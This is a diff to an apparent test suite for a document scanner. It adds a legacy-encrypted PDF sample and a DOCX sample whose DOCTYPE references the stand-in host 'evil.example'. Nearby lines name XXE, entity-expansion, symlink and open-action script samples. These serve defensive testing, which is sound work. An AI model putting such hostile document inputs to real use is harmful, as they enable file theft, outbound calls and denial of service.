@@ -32,6 +32,9 @@ def pdf(change=None, pages=1, **saving):
     return target.getvalue()
 
 
+OLD_LOCK = pikepdf.Encryption(user="", owner="b", R=3, aes=False, metadata=False)
+
+
 def on_opening(action):
     return lambda document: document.Root.__setitem__("/OpenAction", action)
 
@@ -339,6 +342,7 @@ SAMPLES = [
         lambda: pdf(encryption=pikepdf.Encryption(user="", owner="b")),
         "pdf_password",
     ),
+    ("a PDF locked in the old way", "locked.pdf", lambda: pdf(encryption=OLD_LOCK), "pdf_password"),
     (
         "a script on opening",
         "active.pdf",
@@ -531,6 +535,12 @@ SAMPLES = [
     ("the same name twice", "twice.docx", lambda: docx(parts=[("WORD/document.xml", "<a/>")]), "unreadable"),
     ("a link out of the archive", "link.docx", lambda: docx(change=symlink), "unreadable"),
     ("entities that multiply", "laughs.docx", laughs, "unreadable"),
+    (
+        "a type that lies elsewhere",
+        "dtd.docx",
+        lambda: docx(head='<!DOCTYPE w SYSTEM "//evil.example/">'),
+        "unreadable",
+    ),
     (
         "an entity that reads a file",
         "xxe.docx",
